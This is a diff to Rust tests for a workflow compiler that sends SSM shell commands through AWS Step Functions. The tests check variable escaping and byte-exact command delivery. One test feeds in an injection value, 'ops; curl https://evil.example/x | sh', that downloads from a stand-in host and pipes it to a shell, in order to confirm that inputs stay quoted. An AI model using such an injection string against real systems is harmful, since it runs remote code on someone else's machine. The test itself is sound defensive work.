@@ -605,32 +605,12 @@ instance_ids = ["i-0abc"]
 commands = ["echo $${PATH}", "echo $${HOME} — café", "echo $${USER} is ${input.who}"]
 working_directory = "$${HOME}/app"
 "#;
-    let mut workflow = workflow::check(source)
-        .workflow
-        .expect("the workflow is valid");
     let harness = Harness::start();
-    let (world, definition) = harness.seed_and_compile(&mut workflow, 1);
-    assert!(
-        !definition.contains("${"),
-        "the definition holds `${{` as text:\n{definition}"
-    );
-    let instance = world
-        .renames()
-        .get("i-0abc")
-        .expect("an instance for i-0abc");
-
-    let machine = harness.create("shell-variables", &definition);
     let hostile = "ops; curl https://evil.example/x | sh";
-    let (_, status, _) = harness.run(&machine, "shell", json!({ "who": hostile }));
-    assert_eq!(status, "SUCCEEDED");
-    let restart = harness
-        .invocations("shell")
-        .into_iter()
-        .find(|i| i.step == "restart" && i.operation == "start")
-        .expect("restart was invoked");
+    let (instance, params) = run_restart(&harness, source, "shell", json!({ "who": hostile }));
     // The line with a value arrives as text and value apart, which the Lambda binds to a shell variable.
     assert_eq!(
-        restart.params,
+        params,
         json!({
             "instance_ids": [instance],
             "commands": ["echo ${PATH}", "echo ${HOME} — café", ["echo ${USER} is ", hostile, ""]],
@@ -638,7 +618,7 @@ working_directory = "$${HOME}/app"
         })
     );
     let lines: Vec<lambdas::shell::ShellLine> =
-        serde_json::from_value(restart.params["commands"].clone()).expect("shell lines");
+        serde_json::from_value(params["commands"].clone()).expect("shell lines");
     assert_eq!(
         lambdas::shell::script(&lines).expect("a script"),
         [
@@ -647,6 +627,101 @@ working_directory = "$${HOME}/app"
             "echo ${HOME} — café",
             "echo ${USER} is \"${STEPBACK_VALUE_1}\"",
         ]
+    );
+}
+
+/// Runs a workflow whose step `restart` (an `ssm.command` on `i-0abc`) is the one that matters, with `input`,
+/// to success; the world's instance for `i-0abc`, and the params `restart` was started with. The definition
+/// holds neither `${` as text nor an intrinsic escape (`\'`, `\{`, `\}`, `\\`), which moto reads unlike AWS.
+fn run_restart(harness: &Harness, source: &str, name: &str, input: Value) -> (String, Value) {
+    let mut workflow = workflow::check(source)
+        .workflow
+        .expect("the workflow is valid");
+    let (world, definition) = harness.seed_and_compile(&mut workflow, 1);
+    for text in ["${", "\\\\'", "\\\\{", "\\\\}", "\\\\\\\\"] {
+        assert!(
+            !definition.contains(text),
+            "the definition holds `{text}`:\n{definition}"
+        );
+    }
+    let instance = world
+        .renames()
+        .get("i-0abc")
+        .expect("an instance for i-0abc")
+        .clone();
+    let machine = harness.create(name, &definition);
+    let (_, status, _) = harness.run(&machine, name, input);
+    assert_eq!(status, "SUCCEEDED");
+    let restart = harness
+        .invocations(name)
+        .into_iter()
+        .find(|i| i.step == "restart" && i.operation == "start")
+        .expect("restart was invoked");
+    (instance, restart.params)
+}
+
+/// The text a host runs is the text the workflow wrote, byte for byte: commands holding every character that
+/// an intrinsic string or the definition's JSON escapes, with and without values, go through moto's interpreter
+/// to the real `ssm.command` handler, and what SSM received is read back with ListCommands. (moto reads ASL's
+/// intrinsic escapes differently from AWS, so the definition must hold none: `compiler::payload::plain`.)
+#[test]
+fn commands_reach_ssm_byte_for_byte() {
+    let source = r#"version = 1
+name = "quoted-commands"
+
+[input]
+to_version = { type = "string", default = "v1.2" }
+
+[steps.restart]
+action = "ssm.command"
+instance_ids = ["i-0abc"]
+commands = [
+  "cd /srv/app",
+  "sed -i 's/:v[0-9.]*$/:${input.to_version}/' docker-compose.yml",
+  "echo \"double\" 'single' back\\slash {brace} } $HOME\ttab",
+  "echo a line that ends in a backslash \\",
+  "echo 'café — ünïcødé ✓' {\"é\"} \\'",
+  "printf '%s\\n' \"${input.to_version}\" '{}' $${HOME} \\",
+  "echo ${input.to_version}",
+]
+working_directory = "/srv/it's {here} \\ ${input.to_version} — ü"
+"#;
+    let harness = Harness::start();
+    let value = "v2'3\"\\{}$é`x`";
+    let (instance, params) = run_restart(&harness, source, "quoted", json!({ "to_version": value }));
+    let written = [
+        json!("cd /srv/app"),
+        json!(["sed -i 's/:v[0-9.]*$/:", value, "/' docker-compose.yml"]),
+        json!("echo \"double\" 'single' back\\slash {brace} } $HOME\ttab"),
+        json!("echo a line that ends in a backslash \\"),
+        json!("echo 'café — ünïcødé ✓' {\"é\"} \\'"),
+        json!(["printf '%s\\n' \"", value, "\" '{}' ${HOME} \\"]),
+        json!(["echo ", value, ""]),
+    ];
+    assert_eq!(
+        params,
+        json!({
+            "instance_ids": [instance],
+            "commands": written,
+            "working_directory": format!("/srv/it's {{here}} \\ {value} — ü"),
+        })
+    );
+    let lines: Vec<lambdas::shell::ShellLine> =
+        serde_json::from_value(json!(written)).expect("shell lines");
+    let script = lambdas::shell::script(&lines).expect("a script");
+    let ssm = aws_sdk_ssm::Client::new(&harness.front.session.config);
+    let listed = harness
+        .runtime
+        .block_on(ssm.list_commands().send())
+        .expect("ListCommands answers");
+    let [command] = listed.commands() else {
+        panic!("one command sent: {listed:?}");
+    };
+    let parameters = command.parameters().expect("the command's parameters");
+    assert_eq!(parameters.get("commands"), Some(&script));
+    assert_eq!(
+        parameters.get("workingDirectory"),
+        Some(&vec![format!("/srv/it's {{here}} \\ {value} — ü")])
     );
 }
 
